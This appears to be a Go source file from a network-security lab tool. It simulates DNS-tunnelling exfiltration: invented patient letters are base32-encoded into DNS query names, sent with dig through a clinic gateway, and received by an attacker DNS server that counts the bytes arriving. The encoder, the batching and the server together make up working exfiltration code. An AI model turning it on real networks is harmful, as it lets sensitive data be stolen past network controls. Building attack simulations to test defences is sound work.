package attack

import (
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/cordonhq/cordon/internal/lab"
	"github.com/cordonhq/cordon/internal/lab/netns"
)

const (
	// labelBytes of data make one label of 48 characters; a name has
	// labelsPerName of them, and stays below the 255 bytes of RFC 1035 §2.3.4.
	labelBytes    = 30
	labelsPerName = 3
	// namesAtOnce are asked for by one run of dig, and namesPerSecond bounds
	// the whole.
	namesAtOnce    = 5
	namesPerSecond = 20
)

var dnsCoding = base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(base32.NoPadding)

// tunnelData carries data out in the names of questions to the clinic's own
// DNS server, which hands them to the attacker's server.
func tunnelData(ctx context.Context, s *stage) error {
	out, err := s.outside()
	if err != nil {
		return err
	}
	server, err := newTunnelServer(ctx, out)
	if err != nil {
		return err
	}
	s.beside(ctx, server.serve)
	gateway := s.attacker.Segment.Gateway()
	packets := []Selector{
		s.toNet(host(gateway), "udp", 53),
		s.toNet(host(gateway), "icmp", 0), // an answer after dig has ended
		{Src: host(netip.MustParseAddr(outsideGateway)), Dst: host(netip.MustParseAddr(lab.TunnelServer)), Transport: "udp", Port: 53},
	}
	return s.step(ctx, "carry data out in DNS names", packets, func(ctx context.Context) (string, error) {
		data := s.loot(labelBytes * labelsPerName * namesPerSecond * s.seconds())
		ctx, cancel := s.bounded(ctx)
		defer cancel()
		sent := 0
		for chunk := 0; len(data) > 0 && ctx.Err() == nil; chunk++ {
			var names []string
			for range namesAtOnce {
				n := min(len(data), labelBytes*labelsPerName)
				if n == 0 {
					break
				}
				names = append(names, tunnelName(chunk*namesAtOnce+len(names), data[:n])+" TXT")
				data, sent = data[n:], sent+n
			}
			batch, err := s.file("names", names...)
			if err != nil {
				return "", err
			}
			if _, err := s.tool(ctx, "dig", "+tries=1", "+time=1", "+short", "@"+gateway.String(), "-f", filepath.Base(batch)); errors.Is(err, context.Canceled) {
				return "", err
			}
			pause(ctx, s.jitter(namesAtOnce*time.Second/namesPerSecond))
		}
		arrived := server.arrived()
		detail := fmt.Sprintf("%d bytes sent, %d arrived", sent, arrived)
		if arrived == 0 {
			return detail, errors.New("nothing arrived")
		}
		return detail, nil
	})
}

// loot is data worth stealing: letters of the share, repeated as needed.
func (s *stage) loot(n int) []byte {
	letter := "Discharge letter. The patient of this letter is invented. Diagnosis and medication follow.\n"
	return []byte(strings.Repeat(letter, n/len(letter)+1))[:n]
}

// tunnelName is the name that carries one piece of data.
func tunnelName(seq int, data []byte) string {
	labels := []string{fmt.Sprintf("s%06d", seq)}
	for len(data) > 0 {
		n := min(len(data), labelBytes)
		labels = append(labels, dnsCoding.EncodeToString(data[:n]))
		data = data[n:]
	}
	return strings.Join(labels, ".") + "." + lab.TunnelDomain
}

// tunnelServer is the attacker's DNS server for his domain.
type tunnelServer struct {
	conn net.PacketConn

	mu     sync.Mutex
	pieces map[string]int // bytes by piece: a question may come again
}

func newTunnelServer(ctx context.Context, at netns.Namespace) (*tunnelServer, error) {
	c, err := at.ListenPacket(ctx, "udp", lab.TunnelServer+":53")
	if err != nil {
		return nil, err
	}
	return &tunnelServer{conn: c, pieces: map[string]int{}}, nil
}

func (t *tunnelServer) arrived() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	n := 0
	for _, p := range t.pieces {
		n += p
	}
	return n
}

// serve answers questions until ctx ends.
func (t *tunnelServer) serve(ctx context.Context) error {
	stop := context.AfterFunc(ctx, func() { t.conn.Close() })
	defer stop()
	b := make([]byte, 1500)
	for {
		n, from, err := t.conn.ReadFrom(b)
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			return err
		}
		name, end, ok := question(b[:n])
		if !ok {
			continue
		}
		t.take(name)
		if _, err := t.conn.WriteTo(answerTXT(b[:end]), from); err != nil && ctx.Err() == nil {
			return err
		}
	}
}

func (t *tunnelServer) take(name []string) {
	if len(name) < 2 {
		return
	}
	bytes := 0
	for _, label := range name[1:] {
		if data, err := dnsCoding.DecodeString(strings.ToLower(label)); err == nil && len(label) > 20 {
			bytes += len(data)
		}
	}
	t.mu.Lock()
	t.pieces[name[0]] = bytes
	t.mu.Unlock()
}

// dnsHeader is the length of a DNS header (RFC 1035 §4.1.1).
const dnsHeader = 12

// question reads the labels of the one question of a DNS message, and where it
// ends.
func question(b []byte) (name []string, end int, ok bool) {
	if len(b) < dnsHeader || b[4] != 0 || b[5] != 1 {
		return nil, 0, false
	}
	for i := dnsHeader; i < len(b); {
		n := int(b[i])
		i++
		switch {
		case n == 0:
			const typeAndClass = 4
			return name, i + typeAndClass, i+typeAndClass <= len(b)
		case n > 63 || i+n > len(b):
			return nil, 0, false
		}
		name = append(name, string(b[i:i+n]))
		i += n
	}
	return nil, 0, false
}

// answerTXT answers a question, which ends the message given, with a short
// text.
func answerTXT(q []byte) []byte {
	out := append([]byte(nil), q...)
	out[2], out[3] = 0x84|q[2]&0x01, 0 // response, authoritative
	copy(out[4:dnsHeader], []byte{0, 1, 0, 1, 0, 0, 0, 0})
	const text = "ok"
	out = append(out, 0xc0, dnsHeader, 0, 16, 0, 1, 0, 0, 0, 0, 0, byte(len(text)+1), byte(len(text)))
	return append(out, text...)
}
